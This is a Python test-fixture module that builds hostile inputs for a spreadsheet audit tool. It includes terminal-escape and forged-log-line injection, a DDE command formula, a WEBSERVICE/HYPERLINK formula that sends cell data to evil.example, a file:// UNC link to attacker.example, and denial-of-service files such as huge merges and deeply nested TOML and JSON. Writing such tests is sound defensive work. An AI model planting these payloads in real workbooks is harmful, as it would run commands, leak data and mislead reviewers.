"""Builders of the hostile inputs of issue 20 items 1b–5 (the guard's own bypass fixtures are in makers.py).

Every file is made here, in code, from tests/builders.py registers or a few
bytes of XML: terminal and CI-log injection, rich markup, invisible characters,
active content (DDE, HYPERLINK, javascript:/file: links), a huge merge, Strict
OOXML, extreme numbers and periods, bad encodings, malformed baselines and
templates. Each maker takes a target path and returns it."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

from tests.builders import compliant

FORGED = "\nx.xlsx: R01.1 critical pass\n未发现达到“一般”及以上的问题。"
ESCAPE = "\x1b]8;;http://evil.example\x07点我\x1b]8;;\x07\x1b[2J"
C1_CSI = "\u009b31m"


def ox(text: str) -> str:
    """Control characters as OOXML writes them in a cell (`_x001B_`): openpyxl refuses them raw,
    Excel stores them so, and the reader gets the characters back."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe]", lambda c: f"_x{ord(c.group()):04X}_", text)


def _rewrite(path: Path, edit) -> Path:
    """Rewrite the members of an .xlsx through `edit(name, bytes) -> bytes`."""
    data = {}
    with zipfile.ZipFile(path) as archive:
        infos = archive.infolist()
        for info in infos:
            data[info.filename] = edit(info.filename, archive.read(info.filename))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in infos:
            archive.writestr(info.filename, data[info.filename])
    return path


def injection_register(path: Path) -> Path:
    """A register whose township carries escape sequences and whose 演练 date cell forges gate lines."""
    reg = compliant(township=ox("潘津镇" + ESCAPE))
    reg.sheets["演练"].rows[0][1] = ox("2024-05-01" + FORGED + C1_CSI)
    return reg.save(path)


def control_char_register(path: Path) -> Path:
    """XML-forbidden characters (\\x01, \\x0b, U+FFFE) in a cell and in the township's name."""
    reg = compliant(township=ox("潘\x01津\x0b镇"))
    reg.sheets["演练"].rows[0][1] = ox("坏\x02日期\ufffe")
    return reg.save(path)


def markup_register(path: Path) -> Path:
    """Rich markup in the county and township names: `[/]` would crash rich, `[link=…]` would be a hyperlink."""
    return compliant(county="[link=http://evil.example]伊宁市[/link]", township="[/]镇").save(path)


def invisible_twin(path: Path) -> Path:
    """潘津镇 spelled with a zero-width space and a soft hyphen: the same township to a reader."""
    return compliant(township="潘\u200b津\u00ad镇").save(path)


def autolink_register(path: Path) -> Path:
    """A bare URL and an e-mail address in a cell that the Markdown report quotes."""
    reg = compliant()
    reg.sheets["演练"].rows[0][1] = "http://evil.example/x www.evil.example a@evil.example" + C1_CSI
    return reg.save(path)


def extreme_numbers_register(path: Path) -> Path:
    """A count of 1e308 and a 报告期 of 0001Q1 (the period is then given with --period)."""
    reg = compliant()
    reg.profile["建成区常住人口（万人）"] = 1e308
    reg.profile["报告期"] = "0001Q1"
    return reg.save(path)


def active_content_register(path: Path) -> Path:
    """DDE, HYPERLINK and WEBSERVICE formulas, a javascript: and a file:// UNC link, on an extra sheet."""
    from openpyxl import load_workbook

    compliant().save(path)
    workbook = load_workbook(path)
    sheet = workbook.create_sheet("附件")
    sheet["A1"] = "=cmd|' /C calc'!A0"
    sheet["A2"] = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
    sheet["A3"] = '=WEBSERVICE("http://evil.example/leak")'
    sheet["A4"] = "说明"
    sheet["A4"].hyperlink = "javascript:alert(1)"
    sheet["A5"] = "附件"
    sheet["A5"].hyperlink = "file:///\\\\attacker.example\\share\\x.xlsx"
    sheet["A6"] = "官网"
    sheet["A6"].hyperlink = "https://www.gov.cn/"
    workbook.save(path)
    return path


def huge_merge_register(path: Path) -> Path:
    """A register with one merged range H1:XFD1048576 (openpyxl would make 17 billion MergedCells)."""
    compliant().save(path)

    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            data = data.replace(b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>', 1)
        return data

    return _rewrite(path, edit)


STRICT = {
    b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships":
        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
}


def strict_ooxml_register(path: Path) -> Path:
    """The compliant register with every namespace rewritten to Strict OOXML (ISO 29500 Strict)."""
    compliant().save(path)

    def edit(name: str, data: bytes) -> bytes:
        for old, new in STRICT.items():
            data = data.replace(old, new)
        return data

    return _rewrite(path, edit)


# ---------------------------------------------------------------- auxiliary inputs
def toml_in(path: Path, encoding: str) -> Path:
    text = '# 本县配置\n[scoring]\npass_line = 60\n'
    if encoding == "utf-8-sig":
        path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    else:
        path.write_bytes(text.encode(encoding))
    return path


TOML_VALUES = {
    "nan": "[data.limits]\nmax_ratio = nan\n",
    "inf": "[data.limits]\nmax_sheet_cells = inf\n",
    "huge": "[data.limits]\nmax_file_mb = 1e300\n",
    "deep": "a = " + "[" * 3000 + "]" * 3000 + "\n",
    "deep-tables": "[data.limits]\nx = " + "{ a = " * 40 + "1" + " }" * 40 + "\n",
}

BASELINES = {
    "array": [1, 2],
    "no-tool": {"townships": []},
    "townships-object": {"tool": "fireaudit", "townships": {"伊宁市潘津镇": 1}},
    "township-number": {"tool": "fireaudit", "townships": [1]},
    "score-text": {"tool": "fireaudit", "townships": [{"county": "伊宁市", "township": "潘津镇", "score": "高"}]},
    "score-over-100": {"tool": "fireaudit", "townships": [{"county": "伊宁市", "township": "潘津镇", "score": 1e308}]},
    "requirement-without-id": {"tool": "fireaudit", "townships": [{"requirements": [{"status": "pass"}]}]},
    "requirements-text": {"tool": "fireaudit", "townships": [{"requirements": "R01 pass"}]},
}
RAW_BASELINES = {
    "nan-score": '{"tool": "fireaudit", "townships": [{"score": NaN}]}',
    "deep": '{"tool": "fireaudit", "townships": [' + "[" * 50000 + "]" * 50000 + "]}",
    "gbk": '{"tool": "fireaudit", "townships": [{"township": "潘津镇"}]}',
}


def baseline(path: Path, name: str) -> Path:
    if name in BASELINES:
        path.write_text(json.dumps(BASELINES[name], ensure_ascii=False), encoding="utf-8")
    elif name == "gbk":
        path.write_bytes(RAW_BASELINES[name].encode("gbk"))
    else:
        path.write_text(RAW_BASELINES[name], encoding="utf-8")
    return path


def template_dir(folder: Path, kind: str) -> Path:
    """A --templates folder whose township.md.j2 is GBK, includes itself, or is too large."""
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "township.md.j2"
    if kind == "gbk":
        target.write_bytes("# 乡镇报告\n".encode("gbk"))
    elif kind == "recursive":
        target.write_text('# 报告\n{% include "township.md.j2" %}\n', encoding="utf-8")
    elif kind == "large":
        target.write_text("# x\n" + "填" * (300 * 1024), encoding="utf-8")
    return folder


def strip_controls(text: str) -> str:
    return re.sub(r"[\x00-\x1f]", "", text)
